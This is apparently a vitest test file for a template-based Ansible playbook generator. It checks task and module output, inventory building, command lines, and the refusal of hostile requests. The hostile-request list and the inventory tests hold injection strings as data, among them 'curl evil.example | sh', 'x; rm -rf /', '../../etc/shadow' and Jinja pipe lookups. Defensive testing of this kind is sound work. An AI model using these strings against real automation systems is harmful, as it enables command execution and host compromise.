import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { AutomationHost } from '../../core/automation.js';
import { buildCommand, buildInventory, InvalidAutomationHostError } from '../../core/automation/inventory.js';
import { ONE_REQUEST_PER_TEMPLATE as ONE_PER_TEMPLATE } from '../../bench/automation-requests.js';
import { generateFromTemplates, logrotateFile } from '../../core/automation/templates.js';
import { validatePlaybook } from '../../core/automation/validate.js';

// Templates without an LLM: what a request becomes (tasks, modules, parameters), the inventory built
// only from the targets, the command line, clear failures, and hostile requests that inject nothing.

const hosts: AutomationHost[] = [
  { tagId: 'web-01', hostname: 'web-01.lab', address: '10.77.0.11', port: 22, user: 'root', credential: 'lab-key' },
  { tagId: 'web-02', hostname: 'web-02.lab', address: '10.77.0.12', port: 2222, user: 'deploy', credential: 'deploy-key' },
];

type Task = Record<string, unknown> & { name: string };
type Play = { hosts: string; become: boolean; tasks: Task[] };

function generate(request: string, options: { checkMode?: boolean; firewall?: 'ufw' | 'firewalld' } = {}) {
  const result = generateFromTemplates(request, hosts, {
    checkMode: options.checkMode ?? false,
    ...(options.firewall ? { firewall: options.firewall } : {}),
  });
  if (!result.ok) throw new Error(`${request}: ${result.message}`);
  const plays = parse(result.artifacts.playbook, { version: '1.1' }) as Play[];
  return { ...result, plays, tasks: plays[0]!.tasks };
}

describe('generateFromTemplates', () => {
  it('produces every template, and each output passes static validation', () => {
    for (const [id, request] of Object.entries(ONE_PER_TEMPLATE)) {
      const { generation, artifacts } = generate(request);
      expect(generation.template, request).toBe(id);
      expect(validatePlaybook(artifacts, { become: generation.become ?? false }), request).toEqual([]);
    }
  });

  it('turns "install nginx and make sure it runs" into two tasks over the inventory', () => {
    const { plays, tasks, generation, artifacts } = generate('install nginx and make sure it runs on web-01 and web-02');
    expect(plays).toHaveLength(1);
    expect(plays[0]).toMatchObject({ hosts: 'all', become: true, gather_facts: false });
    expect(tasks).toEqual([
      { name: 'Install nginx', 'ansible.builtin.package': { name: ['nginx'], state: 'present' } },
      { name: 'Ensure nginx is running', 'ansible.builtin.service': { name: 'nginx', state: 'started' } },
    ]);
    expect(generation).toMatchObject({
      source: 'template',
      template: 'package-present + service-running',
      understood: { template: 'package-present + service-running', '1.packages': 'nginx', '2.service': 'nginx' },
    });
    expect(artifacts.collections).toEqual([]);
    expect(artifacts.variables).toEqual({});
  });

  it('writes modules and parameters for files, users, log rotation, sysctl and firewalls', () => {
    expect(generate(ONE_PER_TEMPLATE['file-content']).tasks[0]).toEqual({
      name: 'Write /etc/motd',
      'ansible.builtin.copy': { dest: '/etc/motd', content: 'hello\n', owner: 'root', mode: '0644' },
    });
    expect(generate(ONE_PER_TEMPLATE['user-present']).tasks[0]!['ansible.builtin.user']).toEqual({
      name: 'alice',
      state: 'present',
      groups: ['developers'],
      append: true,
      shell: '/bin/bash',
    });
    const rotate = generate(ONE_PER_TEMPLATE.logrotate).tasks[0]!['ansible.builtin.copy'] as Record<string, string>;
    expect(rotate.dest).toBe('/etc/logrotate.d/infraai-myapp');
    expect(rotate.content).toBe(
      '# Managed by InfraAI\n/var/log/myapp/*.log {\n    weekly\n    rotate 4\n    maxsize 100M\n    missingok\n    notifempty\n    compress\n    delaycompress\n}\n',
    );
    const sysctl = generate(ONE_PER_TEMPLATE.sysctl);
    expect(sysctl.tasks[0]!['ansible.posix.sysctl']).toEqual({
      name: 'net.core.somaxconn',
      value: '4096',
      sysctl_file: '/etc/sysctl.d/90-infraai.conf',
      state: 'present',
      reload: true,
    });
    expect(sysctl.artifacts.collections).toEqual(['ansible.posix']);
    const ufw = generate('open port 53/udp');
    expect(ufw.tasks[0]!['community.general.ufw']).toEqual({ rule: 'allow', port: '53', proto: 'udp' });
    expect(ufw.artifacts.collections).toEqual(['community.general']);
    const firewalld = generate('open port 8443', { firewall: 'firewalld' });
    expect(firewalld.tasks[0]!['ansible.posix.firewalld']).toEqual({
      port: '8443/tcp',
      permanent: true,
      immediate: true,
      state: 'enabled',
    });
    expect(firewalld.artifacts.collections).toEqual(['ansible.posix']);
  });

  it('builds the inventory from the targets only, with the key file the runner writes', () => {
    const { artifacts } = generate('install nginx');
    expect(parse(artifacts.inventory)).toEqual({
      all: {
        hosts: {
          'web-01': {
            ansible_host: '10.77.0.11',
            ansible_port: 22,
            ansible_user: 'root',
            ansible_connection: 'ssh',
            ansible_ssh_private_key_file: '{{ infraai_key_dir }}/lab-key.key',
            ansible_become: false,
          },
          'web-02': {
            ansible_host: '10.77.0.12',
            ansible_port: 2222,
            ansible_user: 'deploy',
            ansible_connection: 'ssh',
            ansible_ssh_private_key_file: '{{ infraai_key_dir }}/deploy-key.key',
          },
        },
      },
    });
    expect(artifacts.hosts).toBe(hosts);
  });

  it('builds the ansible-playbook command, with --check --diff in check mode', () => {
    expect(buildCommand({ checkMode: false })).toEqual(['-i', 'inventory.yml', 'playbook.yml', '--extra-vars', '@vars.json']);
    expect(generate('install nginx', { checkMode: true }).artifacts.command).toEqual([
      '-i',
      'inventory.yml',
      'playbook.yml',
      '--extra-vars',
      '@vars.json',
      '--check',
      '--diff',
    ]);
  });

  it('refuses hosts that cannot be inventory entries', () => {
    expect(() => buildInventory([{ ...hosts[0]!, tagId: 'localhost' }])).toThrow(InvalidAutomationHostError);
    expect(() => buildInventory([{ ...hosts[0]!, credential: '../../etc/shadow' }])).toThrow(/credential/);
    expect(() => buildInventory([hosts[0]!, hosts[0]!])).toThrow(/twice/);
    const result = generateFromTemplates('install nginx', [{ ...hosts[0]!, address: 'x; rm -rf /' }], { checkMode: false });
    expect(result).toMatchObject({ ok: false, message: expect.stringContaining('is not a host address') as string });
  });

  it('says what it understood and what is missing', () => {
    expect(generateFromTemplates('install', hosts, { checkMode: false })).toEqual({
      ok: false,
      understood: { template: 'package-present' },
      message: 'Could not build a playbook from the request: no package to install was named.',
    });
    const partial = generateFromTemplates('install nginx and set the sysctl vm.swappiness', hosts, { checkMode: false });
    expect(partial).toMatchObject({
      ok: false,
      understood: { template: 'package-present + sysctl', '1.packages': 'nginx', '2.key': 'vm.swappiness' },
      message: expect.stringContaining('no value to set vm.swappiness to was given') as string,
    });
    const unknown = generateFromTemplates('reboot everything', hosts, { checkMode: false });
    expect(unknown).toMatchObject({ ok: false, understood: {}, message: expect.stringContaining('Templates cover: install') as string });
  });

  it('refuses a request naming hosts other than the targets, or only some of them', () => {
    expect(generateFromTemplates('install nginx on db-01', hosts, { checkMode: false })).toMatchObject({
      ok: false,
      message: expect.stringContaining('db-01, which is not among the targets') as string,
    });
    expect(generateFromTemplates('install nginx on web-01', hosts, { checkMode: false })).toMatchObject({
      ok: false,
      message: expect.stringContaining('choose the targets to match') as string,
    });
  });

  const HOSTILE_REQUESTS = [
    'install nginx\n- hosts: localhost\n  tasks: [{shell: id}]',
    'install "nginx: {shell: id}"',
    'install nginx$(id)',
    'install nginx; curl evil.example | sh',
    'restart nginx && reboot',
    'start "nginx --now; id"',
    'write "x" to /etc/../etc/sudoers',
    "write \"{{ lookup('pipe', 'id') }}\" to /etc/motd",
    'deploy a template to /etc/x.conf with content \'{{ lookup("pipe", "id") }}\'',
    'create user "eve\nshell: /bin/sh"',
    'create user root',
    'add user eve to group sudo',
    'set kernel.core_pattern to |/tmp/x',
    'set vm.swappiness to "10; reboot"',
    'write "x" to /etc/sudo ers',
    'install nginx version 1.24',
    'install nginx on all hosts except web-02',
    'open port 99999',
    'stop ssh',
  ];
  for (const request of HOSTILE_REQUESTS) {
    it(`refuses a hostile request: ${JSON.stringify(request).slice(0, 60)}`, () => {
      const result = generateFromTemplates(request, hosts, { checkMode: false });
      expect(result.ok, result.ok ? result.artifacts.playbook : '').toBe(false);
    });
  }

  it("manages a supervisor host's services with supervisorctl, as its CMDB item says", () => {
    const supervised: AutomationHost[] = hosts.map((h) => ({ ...h, serviceManager: 'supervisor' }));
    const result = generateFromTemplates('write /etc/labsvc/labsvc.conf with content "port=8080" and restart labsvc', supervised, {
      checkMode: false,
    });
    if (!result.ok) throw new Error(result.message);
    const plays = parse(result.artifacts.playbook, { version: '1.1' }) as Play[];
    expect(plays).toHaveLength(1);
    expect(plays[0]).toMatchObject({ hosts: 'all', become: true });
    expect(plays[0]!.tasks[1]).toEqual({
      name: 'Restart labsvc',
      'community.general.supervisorctl': { name: 'labsvc', state: 'restarted' },
    });
    expect(result.artifacts.collections).toEqual(['community.general']);
    for (const [request, state] of [
      ['start labsvc', 'started'],
      ['stop labsvc', 'stopped'],
    ] as const) {
      const one = generateFromTemplates(request, supervised, { checkMode: false });
      expect(one.ok && (parse(one.artifacts.playbook, { version: '1.1' }) as Play[])[0]!.tasks[0]).toMatchObject({
        'community.general.supervisorctl': { name: 'labsvc', state },
      });
    }
    // Hosts without a service manager on record (or another one) keep ansible's service module.
    expect(generate('restart labsvc').tasks[0]).toEqual({
      name: 'Restart labsvc',
      'ansible.builtin.service': { name: 'labsvc', state: 'restarted' },
    });
  });

  it('writes one play per way of managing services when the targets differ', () => {
    const mixed: AutomationHost[] = [
      { ...hosts[0]!, serviceManager: 'systemd' },
      { ...hosts[1]!, serviceManager: 'supervisor' },
    ];
    const result = generateFromTemplates('install nginx and restart it', mixed, { checkMode: false });
    if (!result.ok) throw new Error(result.message);
    const plays = parse(result.artifacts.playbook, { version: '1.1' }) as Play[];
    expect(plays.map((p) => p.hosts)).toEqual(['web-01', 'web-02']);
    expect(plays[0]!.tasks[1]).toMatchObject({ 'ansible.builtin.service': { name: 'nginx', state: 'restarted' } });
    expect(plays[1]!.tasks[1]).toMatchObject({ 'community.general.supervisorctl': { name: 'nginx', state: 'restarted' } });
    expect(plays.every((p) => p.tasks[0]!['ansible.builtin.package'])).toBe(true);
    // A request that manages no service stays one play over all hosts.
    const packages = generateFromTemplates('install nginx', mixed, { checkMode: false });
    expect(packages.ok && (parse(packages.artifacts.playbook, { version: '1.1' }) as Play[]).map((p) => p.hosts)).toEqual(['all']);
  });

  it('says why supervisor cannot reload, enable or disable a program', () => {
    const supervised: AutomationHost[] = [{ ...hosts[0]!, serviceManager: 'supervisor' }];
    for (const request of ['reload labsvc', 'enable labsvc at boot', 'disable labsvc at boot']) {
      const result = generateFromTemplates(request, supervised, { checkMode: false });
      expect(result, request).toMatchObject({
        ok: false,
        message: expect.stringContaining('labsvc is a supervisor program on web-01') as string,
      });
    }
  });

  it('writes YAML-looking content as data, never as playbook structure', () => {
    const content = 'key: value\n- hosts: all\n  tasks: [{shell: id}]\n"quoted" and \'single\' #comment';
    const { tasks, plays } = generate(
      `write "${content.replace(/"/g, '\\"').replace(/\n/g, '\\n')}" to /etc/app.conf`.replace(/\\"/g, '”'),
    );
    expect(plays).toHaveLength(1);
    expect(tasks).toHaveLength(1);
    expect((tasks[0]!['ansible.builtin.copy'] as { content: string }).content).toContain('- hosts: all\n  tasks: [{shell: id}]');
  });

  it('writes only the log rotation directives it builds itself', () => {
    const { tasks } = generate('rotate /var/log/x.log {\n postrotate\n id\n endscript\n}');
    const content = (tasks[0]!['ansible.builtin.copy'] as { content: string }).content;
    expect(content).not.toMatch(/postrotate|endscript|\bid\b/);
    expect(content.split('\n')[1]).toBe('/var/log/x.log {');
  });

  it('keeps every playbook line within 160 characters, content included', () => {
    const line = `k=${'v'.repeat(300)} ${'w'.repeat(50)}`;
    const { artifacts, tasks } = generate(`write '${line}\\nnext' to /etc/app/long.conf`);
    expect(Math.max(...artifacts.playbook.split('\n').map((l) => l.length))).toBeLessThanOrEqual(160);
    expect((tasks[0]!['ansible.builtin.copy'] as { content: string }).content).toBe(`${line}\nnext\n`);
  });

  it('names log rotation files after the logs and never replaces a package file', () => {
    expect(logrotateFile('/var/log/nginx/*.log')).toBe('/etc/logrotate.d/infraai-nginx');
    expect(logrotateFile('/srv/app/logs/app.log')).toBe('/etc/logrotate.d/infraai-srv-app-logs-app');
    expect(logrotateFile('/var/log/*.log')).toBe('/etc/logrotate.d/infraai-logs');
  });
});
